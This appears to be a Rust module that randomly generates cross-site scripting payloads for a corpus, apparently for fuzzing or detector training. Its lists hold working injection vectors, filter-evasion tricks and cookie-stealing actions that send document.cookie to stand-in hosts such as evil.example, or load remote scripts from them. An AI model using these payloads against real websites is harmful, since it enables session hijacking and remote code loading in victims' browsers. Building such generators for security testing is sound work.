//! Cross-site scripting grammar: context break, vector, action.

use rand::Rng;

use super::{pick, CorpusRng};

const ACTIONS: &[&str] = &[
    "alert(1)",
    "alert(document.cookie)",
    "prompt(1)",
    "confirm(1)",
    "alert`1`",
    "alert(document.domain)",
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//evil.example/?c='+document.cookie)",
    "document.location='//evil.example/'+document.cookie",
    "alert(String.fromCharCode(88,83,83))",
    "top['al'+'ert'](1)",
    "window.onerror=alert;throw 1",
    "new Image().src='//x.example/?'+document.cookie",
    "self[`alert`](1)",
    "setTimeout('alert(1)')",
    "import('//evil.example/x.js')",
];

const EVENTS: &[&str] = &[
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onmouseenter",
    "onwheel",
    "oninput",
    "onbeforeprint",
    "onpageshow",
    "onscroll",
    "onresize",
];

const BREAKS: &[&str] = &[
    "",
    "\">",
    "'>",
    "\"/>",
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "\" ",
    "' ",
    "</style>",
];

fn vector(rng: &mut CorpusRng) -> String {
    let a = pick(rng, ACTIONS);
    let e = pick(rng, EVENTS);
    match rng.gen_range(0..14) {
        0 | 1 => format!("<script>{a}</script>"),
        2 => format!(
            "<script src=//evil.example/{}.js></script>",
            rng.gen_range(1..999)
        ),
        3 | 4 => format!("<img src=x {e}={a}>"),
        5 => format!("<svg {e}={a}>"),
        6 => format!("<svg/onload={a}>"),
        7 => format!("<body {e}={a}>"),
        8 => format!("<iframe src=\"javascript:{a}\"></iframe>"),
        9 => format!("<a href=\"javascript:{a}\">click</a>"),
        10 => format!("<details open ontoggle={a}>"),
        11 => format!("<input autofocus onfocus={a}>"),
        12 => format!("<iframe srcdoc=\"<script>{a}</script>\"></iframe>"),
        _ => format!(
            "<{} {e}={a}>",
            pick(
                rng,
                &["div", "video", "audio", "marquee", "math", "x", "p", "b"]
            )
        ),
    }
}

/// One XSS payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    let a = pick(rng, ACTIONS);
    match rng.gen_range(0..10) {
        // Attribute injection without a new tag.
        0 => format!(
            "{} {}={} x=\"",
            pick(rng, &["\"", "'"]),
            pick(rng, EVENTS),
            a.replace('"', "'")
        ),
        // Script string break-out.
        1 => format!("{}{a}//", pick(rng, &["';", "\";", "');", "\");"])),
        // URL context.
        2 => format!("javascript:{a}"),
        _ => format!("{}{}", pick(rng, BREAKS), vector(rng)),
    }
}
